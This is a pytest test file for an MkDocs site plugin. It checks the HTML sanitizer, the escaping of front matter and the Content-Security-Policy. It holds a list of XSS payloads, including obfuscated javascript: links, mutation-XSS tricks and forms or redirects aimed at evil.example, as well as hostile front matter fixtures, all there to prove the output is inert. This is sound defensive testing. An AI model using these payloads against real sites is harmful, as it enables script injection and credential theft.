"""Safe by construction: the sanitizer, the escaping of front matter and the CSP, as built.

Both halves are proven: what an editor legitimately writes comes out exactly as before, and
what an attacker writes comes out inert. tests/test_hostile.py tries whole sites in Chromium.
"""

from __future__ import annotations

import html
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import markdown
import pytest
from mkdocs.config import load_config
from selectolax.lexbor import LexborHTMLParser, LexborNode

from conftest import CONFIG, REPO, build_report, build_site
from winkelvloer.core.config import load_yaml_config
from winkelvloer.plugin import plugin as site_plugin
from winkelvloer.render import csp as content_security_policy
from winkelvloer.render.escaping import escaped_templates, loader_path
from winkelvloer.render.html_policy import anchor_id, sanitize_content, sanitize_page, text_only

# --- Comparing HTML as a reader's browser sees it -----------------------------------------------


def dom(html: str) -> list[str]:
    """Elements with their attributes, and text, in document order: what a browser builds."""
    out: list[str] = []

    def walk(node: LexborNode, depth: int) -> None:
        for child in node.iter(include_text=True):
            if child.tag == "-text":
                text = " ".join((child.text_content or "").split())
                if text:
                    out.append(f"{'  ' * depth}{text}")
            elif child.tag != "_comment":
                attrs = sorted((k, v or "") for k, v in child.attributes.items())
                out.append(f"{'  ' * depth}<{child.tag} {attrs}>")
                walk(child, depth + 1)

    parsed = LexborHTMLParser(html)
    top = parsed.body or parsed.root
    assert top is not None
    walk(top, 0)
    return out


def render(text: str) -> str:
    """Markdown through Python-Markdown with the site's extensions, as MkDocs calls it."""
    extensions = ["attr_list", "admonition", "md_in_html", "toc"]
    configs = {"toc": {"permalink": True}}
    return markdown.markdown(text, extensions=extensions, extension_configs=configs)


# --- What editors write comes out unchanged -----------------------------------------------------

LEGITIMATE = """
# Een titel

Een alinea met *nadruk*, **vet**, `code`, een [link](../ander-artikel/#kop "Titel"),
een [mail](mailto:redactie@example.org) en een [externe bron](https://example.com/a?b=1&c=2).

## 1. Een genummerde kop

- een lijst
    - genest
- met een [anker](#1-een-genummerde-kop)

3. begint bij drie
4. en telt door

> Een citaat.

    ingesprongen code <met> & tekens

![Een schets van de toonbank](../img/schets.png "De toonbank"){: width="320" height="200" }

!!! tip "Eerste stap"
    Vraag het gewoon.

!!! warning
    Let op.

<table>
  <thead><tr><th scope="col">Dag</th><th align="right">Klanten</th></tr></thead>
  <tbody><tr><td>maandag</td><td align="right">12</td></tr></tbody>
</table>

<details><summary>Meer</summary>Nog wat tekst.</details>

Een [knop](https://example.com/){: .md-button .md-button--primary } en <abbr title="btw">BTW</abbr>,
H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>let op</mark>.

Lees ook: [Een ander artikel](ander-artikel.md)

---

Een Franse « typografie » met een smalle spatie : ja, en een harde spatie\u00a0hier.
"""


def test_legitimate_markdown_renders_identically() -> None:
    html = render(LEGITIMATE)
    assert 'class="headerlink"' in html and "admonition tip" in html  # the fixture is rich
    assert dom(sanitize_content(html)) == dom(html)
    assert dom(sanitize_page(sanitize_content(html))) == dom(html)


def test_cards_and_byline_markup_survive() -> None:
    html = (
        '<p class="wv-byline" lang="en"><time datetime="2026-10-05">5 October 2026</time></p>'
        '<aside class="wv-related" data-wv-card=""><a href="../x/">X</a></aside>'
    )
    assert dom(sanitize_content(html)) == dom(html)
    card = (
        '<aside class="wv-related" lang="nl" aria-label="Lees ook" data-pagefind-ignore="">'
        '<a class="wv-related__link" href="../x/" hreflang="nl"><span class="wv-related__title">'
        "X</span></a></aside>"
    )
    assert dom(sanitize_page(card)) == dom(card)


def built_without_sanitizer(site_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The real site built with the sanitizer's two passes taken out of the plugin."""
    monkeypatch.setattr(site_plugin, "sanitize_content", lambda html: html)
    monkeypatch.setattr(site_plugin, "sanitize_page", lambda html: html)
    return build_site(site_dir, use_cache=False)  # no page kept from, or for, another build


def test_real_site_is_unchanged_by_the_sanitizer(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every page of the real content, in every language, is the same with and without it."""
    unsanitized = built_without_sanitizer(tmp_path / "site", monkeypatch)
    pages = sorted(p.relative_to(site) for p in site.rglob("*.html"))
    assert len(pages) > 20
    for rel in pages:
        ours = (site / rel).read_text(encoding="utf-8")
        theirs = (unsanitized / rel).read_text(encoding="utf-8")
        assert dom(ours) == dom(theirs), rel


# --- What attackers write comes out inert -------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>',
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p data-pagefind-filter="x:<img src=x onerror=alert(1)>" data-pagefind-body>x</p>',
    '<p id="__config">{"search": "https://evil.example/w.js"}</p>',
    '<div id="wv-search-ui"></div>',
    '<p class="md-dialog md-header">fake chrome</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    '<img src="https://evil.example/pixel.png" alt="tracker">',
    '<img src="//evil.example/pixel.png" alt="tracker">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<!--><script>alert(1)</script>-->",
]

SAFE_SCHEMES = ("https:", "http:", "mailto:")
# Parsed with scripting off, as here, these look harmless; a browser with scripting on
# reads them differently (mutation XSS), so only the result after sanitizing is judged.
MUTATIONS = {p for p in PAYLOADS if p.startswith(("<noscript", "<template"))}
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "base", "meta", "form", "style", "link"}


def dangers(html: str) -> list[str]:
    found = []
    for node in LexborHTMLParser(html).css("*"):
        if node.tag in FORBIDDEN_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            if name.startswith(("on", "data-pagefind", "style", "srcdoc")):
                found.append(f"{node.tag} {name}")
            if name == "id" and (value or "").startswith(("__", "wv-search")):
                found.append(f"{node.tag} id={value}")
            if name == "class" and "md-" in (value or ""):
                found.append(f"{node.tag} class={value}")
            scheme = (value or "").split("/")[0]
            if name in ("href", "src") and ":" in scheme and not scheme.startswith(SAFE_SCHEMES):
                found.append(f"{node.tag} {name}={value}")
            if node.tag == "img" and name == "src" and "evil" in (value or ""):
                found.append(f"off-site image {value}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_after_sanitizing(payload: str) -> None:
    assert dangers(payload) or payload in MUTATIONS, "the payload should be dangerous before"
    assert dangers(sanitize_content(payload)) == []
    assert dangers(sanitize_page(sanitize_content(payload))) == []


HOSTILE_ID = 'kop"><noscript/x!@><meta/x!@/http-equiv="refresh"/content="0;url=https://x.test/">'


@pytest.mark.parametrize(
    "plain",
    [
        "slotgedachte",
        "1-het-is-geen-snelheidswedstrijd",
        "tag:verkoop",
        "schlagwörter",
        "tags.md:43-65/slug",
        "Kop_2.b",
    ],
)
def test_plain_ids_are_kept(plain: str) -> None:
    assert anchor_id(plain) == plain
    assert f'id="{plain}"' in sanitize_content(f'<h2 id="{plain}">Kop</h2>')


def test_an_id_with_markup_becomes_a_plain_token_everywhere_alike() -> None:
    token = anchor_id(HOSTILE_ID)
    assert token.startswith("id-") and anchor_id(token) == token
    assert anchor_id(HOSTILE_ID + " ") != token
    escaped = html.escape(HOSTILE_ID)
    content = sanitize_content(
        f'<h2 id="{escaped}">Kop<a class="headerlink" href="#{escaped}">¶</a></h2>'
        f'<p><a href="#{escaped}">terug</a> <a href="#">boven</a></p>'
    )
    assert content.count(f'"#{token}"') == 2 and f'id="{token}"' in content
    assert 'href="#"' in content and "noscript" not in content


def test_text_only_keeps_the_words() -> None:
    assert text_only('Tag <svg onload="alert(1)">&amp; co') == "Tag &amp; co"
    assert text_only("1. Kop &lt;b&gt;") == "1. Kop &lt;b&gt;"


# --- Front matter is escaped where it is written ------------------------------------------------

TITLE = 'Aanval </title><script>alert("t")</script> &amp; <!-- x'
# 80 to 160 characters, as the check wants a description, so the preview builds the page with it.
DESCRIPTION = 'Omschrijving "><script>alert("d")</script> die lang genoeg is als een beschrijving.'
AUTHOR = "Redactie \"><img src=x onerror=alert('a')>"
TAG = '<svg onload=alert("tag")>'


@pytest.fixture(scope="module")
def hostile_front_matter_site(
    tmp_path_factory: pytest.TempPathFactory, site_builder: Callable[..., Path]
) -> Path:
    docs = Path(shutil.copytree(REPO / "docs", tmp_path_factory.mktemp("docs") / "docs"))
    front_matter = {"title": TITLE, "description": DESCRIPTION, "tags": [TAG, "Verkoop"]}
    lines = [f"{key}: {json.dumps(value)}" for key, value in front_matter.items()]
    lines += ["date: 2026-10-06", f"author: {json.dumps(AUTHOR)}"]
    text = "---\n" + "\n".join(lines) + "\n---\n\n# Aanval\n\nTekst.\n"
    (docs / "artikelen" / "aanval.md").write_text(text, encoding="utf-8")
    # The check rejects the page (a tag of no vocabulary, a title unlike the H1), so the
    # published build leaves it out; the preview builds what it can read, and must be safe.
    return site_builder(docs, preview=True, strict=False)


def meta(doc: LexborHTMLParser, key: str) -> str | None:
    node = doc.css_first(f'meta[name="{key}"], meta[property="{key}"]')
    return node.attributes.get("content") if node else None


def test_front_matter_is_text_wherever_it_is_written(hostile_front_matter_site: Path) -> None:
    site = hostile_front_matter_site
    doc = LexborHTMLParser((site / "artikelen/aanval/index.html").read_text(encoding="utf-8"))
    assert doc.css_first("title").text() == f"{TITLE} \u2013 Winkelvloer"
    assert meta(doc, "description") == DESCRIPTION
    assert meta(doc, "author") == AUTHOR
    assert meta(doc, "og:title") == TITLE
    assert meta(doc, "twitter:description") == DESCRIPTION
    header = doc.css_first("[data-md-component=header-topic]").text(strip=True)
    assert header == TITLE
    assert doc.css_first("nav.md-tags a").text(strip=True) == TAG
    json_ld = json.loads(doc.css_first('script[type="application/ld+json"]').text())
    assert (json_ld["headline"], json_ld["description"]) == (TITLE, DESCRIPTION)
    assert json_ld["author"]["name"] == AUTHOR
    home = LexborHTMLParser((site / "index.html").read_text(encoding="utf-8"))
    card = home.css_first('a[href="artikelen/aanval/"]')
    assert card.css_first(".wv-card__title").text() == TITLE
    assert card.css_first(".wv-card__description").text() == DESCRIPTION
    tags = LexborHTMLParser((site / "tags/index.html").read_text(encoding="utf-8"))
    assert TAG in [span.text(strip=True) for span in tags.css("span.md-tag")]
    assert TITLE in [a.text(strip=True) for a in tags.css("article a")]
    toc = [a.text(strip=True) for a in tags.css("nav.md-nav--secondary a")]
    assert toc and "svg" not in " ".join(toc)  # a tag's markup never reaches the sidebar


def test_no_page_gains_an_element_from_front_matter(hostile_front_matter_site: Path) -> None:
    for path in hostile_front_matter_site.rglob("*.html"):
        doc = LexborHTMLParser(path.read_text(encoding="utf-8"))
        assert doc.css("svg[onload], img[onerror]") == [], path
        scripts = [s for s in doc.css("script") if "alert" in (s.text() or "")]
        assert all(s.attributes.get("type") == "application/ld+json" for s in scripts), path


@pytest.mark.parametrize(
    "name",
    [
        "fragments/tags/default/tag.html",
        "/fragments/tags/default/tag.html",
        "./fragments//tags/default/tag.html",
    ],
)
def test_a_tag_fragment_escapes_under_any_name_that_loads_it(name: str) -> None:
    """A tag listing's `layout` comes from a Markdown comment (<!-- material/tags {layout:
    "/fragments/tags/default"} -->); every spelling of the theme's tag template escapes."""
    config = load_config(config_file=str(CONFIG))
    env = config.theme.get_env()
    names = escaped_templates(Path(config.theme.custom_dir or ""))
    env.autoescape = lambda template: loader_path(template) in names
    tag = SimpleNamespace(name=TAG, hidden=False)
    html = env.get_template(name).render(tag=tag, config=config)
    assert LexborHTMLParser(html).css_first("span.md-tag").text(strip=True) == TAG


def test_theme_tooltips_stay_off() -> None:
    """Material's content.tooltips writes title attributes (a Markdown link's title, an
    overflowing page title) into the page with innerHTML: text would become markup."""
    features = load_yaml_config(CONFIG)["theme"].get("features", [])
    assert "content.tooltips" not in features


# --- The Content-Security-Policy ----------------------------------------------------------------


def test_every_page_carries_a_policy_for_its_own_inline_scripts(site: Path) -> None:
    for path in site.rglob("*.html"):
        doc = LexborHTMLParser(path.read_text(encoding="utf-8"))
        head = doc.head.css("meta")
        assert head[0].attributes.get("charset") == "utf-8", path
        policy = head[1].attributes.get("content") or ""
        assert head[1].attributes.get("http-equiv") == "Content-Security-Policy", path
        script_src = next(d for d in policy.split(";") if d.split()[0] == "script-src")
        inline = content_security_policy.inline_scripts(path.read_text(encoding="utf-8"))
        assert inline, path  # Material's inline scripts are there, and hashed:
        for script in inline:
            assert content_security_policy.script_hash(script) in script_src
        for directive in ("object-src 'none'", "base-uri 'self'", "form-action 'self'"):
            assert directive in policy
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*"} & set(policy.split())


def test_a_script_the_theme_did_not_write_fails_the_build() -> None:
    page = '<html><head><meta charset="utf-8"></head><body><script>ok()</script></body></html>'
    with_policy = content_security_policy.with_policy(page, frozenset({"ok()"}))
    assert "Content-Security-Policy" in with_policy
    assert content_security_policy.script_hash("ok()") in with_policy
    with pytest.raises(content_security_policy.PolicyError, match="not the theme's"):
        content_security_policy.with_policy(page.replace("ok()", "evil()"), frozenset())


def test_redirect_template_in_front_matter_fails_the_build(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    docs = Path(shutil.copytree(REPO / "docs", tmp_path / "docs"))
    page = docs / "artikelen" / "nieuwe-klanten-werven.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("---\n", "---\ntemplate: redirect.html\n", 1), encoding="utf-8")
    report = build_report(tmp_path / "site", docs_dir=docs)
    assert not report.ok
    (finding,) = [f for f in report.findings if f.code == "FM009"]
    assert finding.path.endswith("/docs/artikelen/nieuwe-klanten-werven.md")
    assert finding.line == 2
    assert finding.as_text() in caplog.text


def test_live_reload_of_make_serve_runs_by_a_nonce_of_that_run() -> None:
    """`mkdocs serve` injects an inline script per request; only it gets the run's nonce."""
    from mkdocs.livereload import LiveReloadServer

    page = b'<html><head><meta charset="utf-8"></head><body><p>x</p></body></html>'
    server = LiveReloadServer(builder=lambda: None, host="127.0.0.1", port=0, root=".")
    plugin = site_plugin.WinkelvloerPlugin()
    plugin.session = SimpleNamespace(serve_nonce="n0nce")  # type: ignore[assignment]
    try:
        plugin.on_serve(server, config=load_config(config_file=str(CONFIG)), builder=None)
        served = server._inject_js_into_html(page, 1)
        assert served.count(b'<script nonce="n0nce">') == 1
        assert "'nonce-n0nce'" in content_security_policy.policy([], ["n0nce"])
        assert "nonce" not in content_security_policy.policy([])
    finally:
        server.server_close()
